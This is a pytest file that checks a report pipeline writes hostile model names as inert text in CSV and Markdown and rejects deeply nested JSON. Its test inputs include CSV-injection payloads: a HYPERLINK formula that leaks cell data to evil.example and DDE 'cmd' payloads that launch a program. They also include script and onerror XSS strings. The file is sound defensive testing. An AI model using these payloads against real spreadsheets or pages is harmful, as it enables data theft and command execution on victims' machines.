"""Hostile metrics for the ``tables`` stage (docs/behaviour.md): names that would run as a spreadsheet
formula or pass raw HTML into Markdown are written as text, and JSON nested past any metrics file
stops the stage with one line naming the file."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hostile import assert_clean_failure, hidden_leftovers

from pipeline.report import render, tables
from pipeline.report.assemble import Grid
from pipeline.report.table_specs import TABLE_NAMES

FIXTURES = Path(__file__).parent / "fixtures"
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "ok\r=1+1",  # a bare carriage return would end the row
]


def named(tmp_path: Path, fixture: str, name: str, pooling: str | None = "mean") -> Path:
    """A copy of a metrics fixture whose model has the given name and pooling."""
    data = json.loads((FIXTURES / f"{fixture}.json").read_text(encoding="utf-8"))
    data["model"]["name"], data["model"]["pooling"] = name, pooling
    path = tmp_path / f"{fixture}-{abs(hash(name))}.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_formula_in_a_model_name_is_written_as_text_in_csv(cli, tmp_path, name):
    out = tmp_path / "tables"
    assert cli("tables", "--metrics", named(tmp_path, "faq_minilm", name), "--out", out) == 0
    rows = csv_rows(out / "faq.csv")
    labels = [row[0] for row in rows[1:] if not row[0].startswith("published:")]
    expected = ("" if name.startswith("ok") else "'") + name.replace("\r", "\n")
    assert labels and all(label == expected for label in labels), labels
    # the numbers beside it stay numbers
    assert rows[1][3:] and all(cell.replace(".", "", 1).isdigit() for cell in rows[1][3:] if cell), rows[1]
    assert hidden_leftovers(out) == []


def test_a_formula_in_the_pooling_is_written_as_text_in_csv(cli, tmp_path):
    out = tmp_path / "tables"
    assert cli("tables", "--metrics", named(tmp_path, "faq_minilm", "run", pooling="=1+2"), "--out", out) == 0
    assert csv_rows(out / "faq.csv")[1][:2] == ["run", "'=1+2"]


def test_signed_numbers_stay_numbers_in_csv():
    body = [["-x", "-0.9"], ["+y", "+5.9"], ["m", "12"], ["-", None]]
    grid = Grid("t", ["Model", "Gain"], ["", ""], [False, True], body, [])
    rows = list(csv.reader(io.StringIO(render.to_csv(grid))))
    assert rows == [["Model", "Gain"], ["'-x", "-0.9"], ["'+y", "+5.9"], ["m", "12"], ["'-", ""]]


def test_published_signed_numbers_are_untouched(cli, tmp_path):
    out = tmp_path / "tables"
    assert cli("tables", "--out", out) == 0
    cells = [cell for name in TABLE_NAMES for row in csv_rows(out / f"{name}.csv") for cell in row]
    assert any(cell.startswith("-") for cell in cells) and any(cell.startswith("+") for cell in cells)
    assert not any(cell.startswith("'") for cell in cells)


@pytest.mark.parametrize(
    "name", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a | b", "two\nlines", "x\r\n<b>y</b>"]
)
def test_raw_html_and_table_breakers_in_a_name_do_not_reach_markdown(cli, tmp_path, name):
    out = tmp_path / "tables"
    assert cli("tables", "--metrics", named(tmp_path, "faq_minilm", name), "--out", out) == 0
    text = (out / "faq.md").read_text(encoding="utf-8")
    assert "<" not in text and ">" not in text, text
    rows = [line for line in text.splitlines() if line.startswith("| ") and "published:" not in line]
    assert len(rows) == 1 + 4  # the header and the run's four rows: nothing split a row
    assert all(len(re.findall(r"(?<!\\)\|", line)) == 6 for line in rows), rows  # 5 columns each
    # HTML and LaTeX were already escaped; they stay so
    assert "<script>" not in (out / "faq.html").read_text(encoding="utf-8")


def naive_markdown(grid) -> str:
    """The Markdown writer before names were neutralised (only "|" escaped)."""
    cell = lambda text: render.DASH if text is None else text.replace("|", "\\|")
    headers = [f"{group} {header}".strip() for group, header in zip(grid.groups, grid.headers)]
    lines = [f"### {grid.title}", "", "| " + " | ".join(cell(h) for h in headers) + " |"]
    lines.append("|" + "|".join("---:" if numeric else ":---" for numeric in grid.numeric) + "|")
    lines += ["| " + " | ".join(cell(c) for c in row) + " |" for row in grid.rows]
    return "\n".join(lines + [""] + [f"- {note}" for note in grid.notes]) + "\n"


def naive_csv(grid) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(grid.headers)
    writer.writerows([["" if c is None else c for c in row] for row in grid.rows])
    return out.getvalue()


def test_ordinary_names_give_the_same_bytes_as_before():
    """Neutralising changes nothing for names that are not hostile: every fixture, every table, every
    published row, byte for byte what the plain writers give."""
    from pipeline.report import assemble, metrics_files

    metrics = [metrics_files.load(path) for path in sorted(FIXTURES.glob("*.json"))]
    for table in tables.build_tables(metrics):
        files = tables.render_files(table)
        assert files["md"] == naive_markdown(assemble.display_grid(table)), table.spec.name
        assert files["csv"] == naive_csv(assemble.flat_grid(table)), table.spec.name


# ------------------------------------------------------------------------- deeply nested JSON
def deep_list(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize(
    ("where", "depth"),
    [(None, 100_000), ("provenance", 100_000), ("provenance", 500), ("model", 80)],
    ids=["whole file 100k deep", "provenance 100k deep", "provenance 500 deep", "model path 80 deep"],
)
def test_deeply_nested_metrics_are_one_line(cli, capsys, tmp_path, where, depth):
    path = tmp_path / "deep.json"
    if where is None:
        path.write_text(deep_list(depth), encoding="utf-8")
    else:
        data = json.loads((FIXTURES / "faq_minilm.json").read_text(encoding="utf-8"))
        data[where]["deep" if where == "provenance" else "path"] = "@@"
        path.write_text(json.dumps(data).replace('"@@"', deep_list(depth)), encoding="utf-8")
    out = tmp_path / "tables"
    status = cli("tables", "--metrics", FIXTURES / "faq_minilm.json", path, "--out", out)
    assert_clean_failure(status, capsys.readouterr().err, path, out, "nested")


def test_a_twin_runs_config_that_is_not_json_is_one_line(cli, capsys, tmp_path):
    model = tmp_path / "twin-model"
    model.mkdir()
    (model / "finetune_config.json").write_text("{broken", encoding="utf-8")
    data = json.loads((FIXTURES / "sts_minilm.json").read_text(encoding="utf-8"))
    data["model"]["path"] = str(model)
    metrics = tmp_path / "sts.json"
    metrics.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "tables"
    status = cli("tables", "--metrics", metrics, "--out", out)
    assert_clean_failure(status, capsys.readouterr().err, model / "finetune_config.json", out, "not a JSON file")
